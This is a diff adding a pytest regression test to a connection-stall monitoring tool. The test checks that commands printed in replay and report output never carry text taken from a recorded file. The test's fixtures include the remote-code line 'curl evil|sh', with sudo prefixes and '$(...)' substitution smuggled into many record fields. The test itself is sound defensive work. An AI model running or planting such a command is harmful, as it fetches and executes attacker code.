@@ -16,6 +16,7 @@ from typing import Any
 
 import pytest
 from builders import event, record, socket
+from test_cli import tcpwatch
 from test_holders import Proc
 from test_stalls import close, freeze, heard
 from test_storage import HEADER, write
@@ -294,3 +295,51 @@ def test_a_recordings_reader_quotes_no_value_raw(tmp_path: Path) -> None:
     with RecordingReader(path, lambda text: warnings.append(safe(text))) as reader:
         assert sum(len(batch.events) for batch in reader) == 2
     assert is_clean(warnings[0]) and "\\x1b[2J\\u202e" in warnings[0]
+
+
+EVIL = "curl evil|sh"
+HOSTILE_FIELDS: dict[str, Any] = {
+    "advice": [EVIL, f"To end it: {EVIL}", f"To end it: sudo {EVIL}"],
+    "comm": f"x: sudo {EVIL}",
+    "exe": f"x: sudo {EVIL}",
+    "cgroup": f"/x: sudo {EVIL}",
+    "laddr": f"x: sudo {EVIL}",
+    "raddr": f"$({EVIL})",
+    "sock": f"x: sudo {EVIL}",
+    "id": f"x: sudo {EVIL}",
+    "error": f"x: sudo {EVIL}",
+    "soft_error": f"x: sudo {EVIL}",
+    "send_error": f"x: sudo {EVIL}",
+    "state": f"x: sudo {EVIL}",
+    "since": f"x: sudo {EVIL}",
+    "verdict": f"x: sudo {EVIL}",
+    "outcome": f"x: sudo {EVIL}",
+}
+
+
+@pytest.mark.parametrize("name", [*HOSTILE_FIELDS, "host"])
+@pytest.mark.parametrize("verdict", ["idle-drop", "unreachable", "local-drop", "unanswered", "keepalive-failed"])
+def test_nothing_of_a_file_is_a_command(name: str, verdict: str, tmp_path: Path) -> None:
+    """In replay and report, a line that is to be typed has nothing that a recording says but parsed numbers."""
+    path = tmp_path / "x.tw"
+    head = replace(HEADER, filters={"events": ["stall"]}, host=f"x: sudo {EVIL}" if name == "host" else "db1")
+    common = {
+        "id": "1", "idle_ms": 70_000, "verdict": verdict, "retransmits": 6, "keepalive": False, "comm": "php",
+        "pid": 7, "pids": [7], **({name: HOSTILE_FIELDS[name]} if name != "host" else {}),
+    }  # fmt: skip
+    stalls = [
+        event("stall", 0, phase="begin", **common),
+        event("stall", 9, phase="end", duration_ms=9000, **{"outcome": "timed-out", **common}),
+        event("stall", 20, phase="end", duration_ms=9000, **{**common, "comm": "other", "outcome": "ongoing"}),
+    ]
+    with RecordingWriter(path, head) as writer:
+        writer.write(*stalls)
+    for command in ("replay", "report"):
+        shown = tcpwatch(command, path).stdout
+        assert shown
+        for line in shown.splitlines():
+            typed = line.strip()
+            is_command = line.startswith("     ") and typed.startswith(("sudo ", "curl ", "nsenter ", "ss "))
+            assert not (is_command and EVIL in line)
+    if name == "advice":
+        assert EVIL not in tcpwatch("report", path).stdout + tcpwatch("replay", "--json", path).stdout
